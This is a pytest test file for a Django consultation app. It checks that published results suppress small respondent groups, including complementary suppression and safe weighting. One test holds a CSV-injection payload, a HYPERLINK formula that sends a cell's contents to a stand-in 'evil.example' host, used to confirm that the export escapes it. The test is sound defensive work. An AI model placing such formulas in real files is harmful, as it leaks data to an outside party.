"""Every published figure of a round keeps small groups hidden (issue 13).

Pages, the CSV and the results mail, at the minimum of 10, with hidden groups that do not
reveal that they exist, complementary suppression, and weighting that pools only what a
published table already shows.
"""

import csv
import io

import pytest
from django.core import mail
from django.core.cache import cache
from django.urls import reverse

from members.models import MailKind, MemberStatus, OutboxMessage
from preferendum import services
from preferendum.models import Answer, RoundFigures, RoundState, Scope
from preferendum.results import round_results
from tests.preferendum.helpers import bulk_answers

pytestmark = pytest.mark.django_db


def _results(client, round_, **params):
    return client.get(reverse("preferendum:round-results", args=[round_.pk]), params)


def _csv(client, round_) -> str:
    return client.get(reverse("preferendum:results-csv", args=[round_.pk])).content.decode()


@pytest.fixture
def branch_round(round_factory, member_factory):
    """A closed round for one branch that a single member answered "helemaal oneens"."""
    member = member_factory(gender="man")
    round_ = round_factory(statements=1, scope=Scope.BRANCH, branch=member.branch)
    services.answer_save(statement=round_.statements.get(), member=member, value=1)
    round_.state = RoundState.CLOSED
    round_.save()
    return round_, member


def test_a_round_with_one_respondent_shows_only_too_few_answers(client, branch_round):
    round_, member = branch_round
    client.force_login(member)
    html = _results(client, round_).content.decode()
    main = html[html.index("<main") :]
    assert "te weinig reacties" in main
    assert "1 reactie" not in main and "100,0%" not in main and "100%" not in main


def test_a_breakdown_of_one_respondent_does_not_list_their_group(client, branch_round):
    round_, member = branch_round
    client.force_login(member)
    html = _results(client, round_, uitsplitsing="gender").content.decode()
    assert "Uitgesplitst naar" not in html and ">man<" not in html


def test_the_csv_shows_only_too_few_answers_below_ten(client, admin_member, branch_round):
    round_, _member = branch_round
    client.force_login(admin_member)
    rows = _csv(client, round_).splitlines()[1:]
    assert len(rows) == 1 and rows[0].endswith("te weinig reacties")


def test_the_results_mail_shows_only_too_few_answers_below_ten(
    member_factory, answer_all, open_round, django_capture_on_commit_callbacks
):
    for member in member_factory.create_batch(9):
        answer_all(member, value=1)
    with django_capture_on_commit_callbacks(execute=True):
        services.round_close(round_=open_round)
    assert OutboxMessage.objects.filter(kind=MailKind.ROUND_RESULTS).exists()
    body = mail.outbox[0].body  # what was sent: bodies are not kept once sent
    assert "te weinig reacties" in body and "reacties" in body and "%" not in body


def _labels(round_, dimension):
    cache.clear()
    return [g.label for g in round_results(round_, dimension=dimension).statements[0].groups]


def test_a_breakdown_lists_the_same_groups_whoever_answered(round_factory, stay_away):
    women = round_factory(state=RoundState.CLOSED, statements=1)
    bulk_answers(women.statements.get(), 20, gender="vrouw")
    mixed = round_factory(state=RoundState.CLOSED, statements=1)
    bulk_answers(mixed.statements.get(), 20, gender="vrouw")
    bulk_answers(mixed.statements.get(), 1, gender="x")
    stay_away(mixed)
    for dimension in ("gender", "age_band", "province", "membership_band"):
        assert _labels(women, dimension) == _labels(mixed, dimension)


def test_who_took_part_counts_respondents_not_answers(
    member_factory, answer_all, open_round, stay_away
):
    """Five people answering four statements are 20 answers, but a group of 5."""
    for member in member_factory.create_batch(5, gender="man"):
        answer_all(member)
    for member in member_factory.create_batch(20, gender="vrouw"):
        answer_all(member)
    stay_away(open_round)
    rows = round_results(open_round).representativeness["gender"]
    men = next(r for r in rows if r["label"] == "man")
    assert men["too_few"] and men["respondents"] == 0.0


def test_who_took_part_hides_everything_below_ten_respondents(
    member_factory, answer_all, open_round, stay_away
):
    for member in member_factory.create_batch(3):
        answer_all(member)
    stay_away(open_round)
    assert not round_results(open_round).near_census
    assert round_results(open_round).representativeness == {}


def test_who_took_part_hides_a_second_group_when_the_total_would_reveal_one(
    member_factory, answer_all, open_round, stay_away
):
    for gender, n in (("vrouw", 30), ("man", 12), ("x", 3)):
        for member in member_factory.create_batch(n + 2, gender=gender)[:n]:
            answer_all(member)
    stay_away(open_round)
    rows = round_results(open_round).representativeness["gender"]
    assert {r["label"] for r in rows if not r["too_few"]} == {"vrouw"}


def _frozen_round(round_factory, people):
    """A closed round whose frozen figures hold `people`: (province, age, value) rows,
    everyone a woman in branch unknown, membership 2-4, 1 000 members per age band."""
    round_ = round_factory(state=RoundState.CLOSED, statements=1)
    round_.statements.update(text="Stelling")
    statement = round_.statements.get()
    by_person, by_place, respondents = [], [], []
    for province, age, value in people:
        by_person.append([statement.pk, value, province, age, "vrouw", 1])
        by_place.append([statement.pk, value, province, None, "2-4", 1])
        respondents.append([province, None, age, "vrouw", "2-4", 1])
    population = [
        [p, None, a, "vrouw", "2-4", n]
        for p, a, n in [("utrecht", "16-29", 1000), ("utrecht", "30-44", 3000)]
        + [("zuid-holland", "65+", 500), ("zeeland", "65+", 2000)]
    ]
    RoundFigures.objects.create(
        round=round_,
        population=population,
        by_person=by_person,
        by_place=by_place,
        respondents=respondents,
    )
    return round_


def test_weighting_cannot_tell_how_a_hidden_group_of_four_answered(
    client, admin_member, round_factory
):
    """The attack of issue 13: Zeeland (4, hidden) and Zuid-Holland (12, hidden with it)
    swap one answer between people of the same age. Every published table is the same
    before and after; a weighting that pooled Zeeland otherwise than the tables (with
    Utrecht's young, say) would change, and so would give Zeeland's answers away."""
    common = [("utrecht", "16-29", 4)] * 10 + [("utrecht", "30-44", 2)] * 30
    common += [("zuid-holland", "16-29", 5)] * 6 + [("zuid-holland", "65+", 5)] * 5
    common += [("zeeland", "65+", 1)] * 3
    before = _frozen_round(
        round_factory, [*common, ("zeeland", "65+", 1), ("zuid-holland", "65+", 5)]
    )
    after = _frozen_round(
        round_factory, [*common, ("zeeland", "65+", 5), ("zuid-holland", "65+", 1)]
    )
    client.force_login(admin_member)
    assert _csv(client, before).split("\n", 1)[1] == _csv(client, after).split("\n", 1)[1]
    assert round_results(before).representativeness == round_results(after).representativeness


def test_statement_totals_under_ten_are_not_part_of_a_trend(round_factory):
    earlier = round_factory(state=RoundState.CLOSED, statements=1)
    later = round_factory(state=RoundState.CLOSED, statements=1)
    earlier.opens_at = later.opens_at.replace(year=later.opens_at.year - 1)
    earlier.closes_at = later.closes_at.replace(year=later.closes_at.year - 1)
    earlier.save()
    later.statements.update(family=earlier.statements.get().family)
    bulk_answers(earlier.statements.get(), 3, value=1)
    bulk_answers(later.statements.get(), 10, value=4)
    trend = round_results(later).statements[0].trend
    assert [point["n"] for point in trend] == [10]


def test_a_member_who_left_can_read_the_results_of_a_round_they_answered(
    client, branch_round, branch_factory
):
    round_, member = branch_round
    member.branch = branch_factory()
    member.status = MemberStatus.FORMER
    member.save()
    client.force_login(member)
    assert _results(client, round_).status_code == 200


def test_a_member_who_moved_branch_can_read_the_results_of_a_round_they_answered(
    client, branch_round, branch_factory
):
    round_, member = branch_round
    member.branch = branch_factory()
    member.save(update_fields=["branch"])
    client.force_login(member)
    assert _results(client, round_).status_code == 200


def test_a_member_who_did_not_answer_still_cannot_read_another_branchs_results(
    client, branch_round, member_factory
):
    round_, _member = branch_round
    client.force_login(member_factory())
    assert _results(client, round_).status_code == 404


def test_answers_survive_as_respondents_after_anonymisation(branch_round):
    round_, _member = branch_round
    Answer.objects.update(member=None)
    from preferendum.figures import respondent_rows

    assert sum(row[-1] for row in respondent_rows(round_)) == 1


def test_a_personal_link_shows_nothing_from_earlier_rounds(client, member, round_factory):
    """Whoever holds the link (a forwarded mail) sees this round only, not the trend."""
    from preferendum import tokens
    from tests.preferendum.factories import AnswerFactory

    earlier = round_factory(state=RoundState.CLOSED, statements=1, title="Vorig jaar")
    AnswerFactory(statement=earlier.statements.get(), member=member, value=1)
    now = round_factory(statements=1)
    now.statements.update(family=earlier.statements.get().family)
    html = client.get(tokens.answer_url(now, member)).content.decode()
    assert now.title in html
    assert "Vorig jaar" not in html and "helemaal oneens</p>" not in html
    assert "antwoordde je" not in html


def test_a_statement_that_looks_like_a_formula_is_text_in_the_csv(
    client, admin_member, round_factory
):
    round_ = round_factory(state=RoundState.CLOSED, statements=1)
    round_.statements.update(text='=HYPERLINK("https://evil.example/?"&A1,"klik")')
    bulk_answers(round_.statements.get(), 12)
    client.force_login(admin_member)
    body = _csv(client, round_)
    assert "=HYPERLINK" in body
    assert all(not cell.startswith("=") for row in csv.reader(io.StringIO(body)) for cell in row)


def _shown(rows, label) -> bool:
    return not next(r for r in rows if r["label"] == label)["too_few"]


def test_who_took_part_does_not_give_a_branch_away_as_its_province_minus_the_others(
    member_factory, branch_factory, answer_all, open_round
):
    """Zeist (5) is hidden, but Utrecht (25) minus Amersfoort (20) would be Zeist."""
    amersfoort = branch_factory(name="Amersfoort", province="utrecht")
    zeist = branch_factory(name="Zeist", province="utrecht")
    goes = branch_factory(name="Goes", province="zeeland")
    for branch, n in ((amersfoort, 20), (zeist, 5), (goes, 12), (None, 7)):
        for member in member_factory.create_batch(n + 5, branch=branch)[:n]:
            answer_all(member)
    tables = round_results(open_round).representativeness
    assert not (_shown(tables["provincie"], "Utrecht") and _shown(tables["afdeling"], "Amersfoort"))


def test_a_hidden_group_is_not_given_away_by_the_membership(member_factory, answer_all, open_round):
    """All 3 non-binary members answered: with 12 hidden answers and the known membership
    (3 non-binary and 9 "anders", all of whom answered) the hidden sizes would follow."""
    for gender, members, answered in (("vrouw", 40, 20), ("non-binair", 3, 3), ("anders", 9, 9)):
        for member in member_factory.create_batch(members, gender=gender)[:answered]:
            answer_all(member)
    groups = round_results(open_round, dimension="gender").statements[0].groups
    assert all(group.distribution is None for group in groups)


def test_a_near_census_round_shows_no_breakdown(client, admin_member, member_factory, open_round):
    """30 of 36 eligible members (the admin included) answered: with the membership,
    "wie deden er mee" would be a census, so only the overall figures are shown."""
    for gender, members, answered in (("vrouw", 24, 22), ("non-binair", 3, 3), ("man", 8, 5)):
        for member in member_factory.create_batch(members, gender=gender)[:answered]:
            for statement in open_round.statements.all():
                services.answer_save(statement=statement, member=member, value=4)
    open_round.state = RoundState.CLOSED
    open_round.save()
    found = round_results(open_round, dimension="gender")
    assert found.representativeness == {} and found.dimension is None
    assert all(r.groups == [] and r.weighted is None and not r.too_few for r in found.statements)
    client.force_login(admin_member)
    html = _results(client, open_round, uitsplitsing="gender").content.decode()
    assert "Bijna iedereen die mocht meedoen" in html and "Wie deden er mee?" not in html
    rows = list(csv.reader(io.StringIO(_csv(client, open_round))))[1:]
    assert rows and {row[2] for row in rows} == {""}


def test_who_took_part_counts_a_member_once_per_snapshot_and_anonymous_answers_by_statement(
    round_factory, member_factory
):
    """Distinct people per group: a member who moved age band during the round counts in
    both bands (as each answer says), an anonymised group as its most answers to one
    statement."""
    from preferendum.figures import respondent_rows
    from tests.preferendum.factories import AnswerFactory

    round_ = round_factory(statements=2)
    first, second = round_.statements.order_by("position")
    traits = {"province": "utrecht", "branch_id": None, "gender": "man", "membership_band": "2-4"}
    mover, steady = member_factory(), member_factory()
    AnswerFactory(statement=first, member=mover, age_band="16-29", **traits)
    AnswerFactory(statement=second, member=mover, age_band="30-44", **traits)
    for statement in (first, second):
        AnswerFactory(statement=statement, member=steady, age_band="30-44", **traits)
    for statement, people in ((first, 3), (second, 2)):
        for _ in range(people):
            AnswerFactory(statement=statement, member=None, age_band="65+", **traits)

    counted = {row.age_band: row.n for row in respondent_rows(round_)}

    assert counted == {"16-29": 1, "30-44": 2, "65+": 3}
